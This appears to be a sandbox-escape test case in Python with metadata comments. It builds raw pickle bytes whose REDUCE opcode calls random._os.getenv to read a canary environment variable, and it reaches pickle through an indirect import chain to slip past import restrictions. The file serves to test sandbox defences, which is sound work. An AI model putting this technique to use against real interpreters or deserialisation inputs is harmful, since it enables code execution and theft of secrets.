# id: pickle-reduce
# family: deserialisation
# kind: escape
# invariant: D, E, G
# origin: documented behaviour of pickle
# technique: a pickle names a module and an attribute in its bytes, and loading it looks them up and calls them
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: builtins, permits
# fix: structural
# alive-when: canary

import dataclasses

pickle = dataclasses.inspect.importlib.import_module("pickle")
name, argument = b"\x8c\x06random\x8c\x0a_os.getenv\x93", b"\x8c\x0ePADCELL_CANARY\x85"
print(pickle.loads(b"\x80\x04" + name + argument + b"R."))
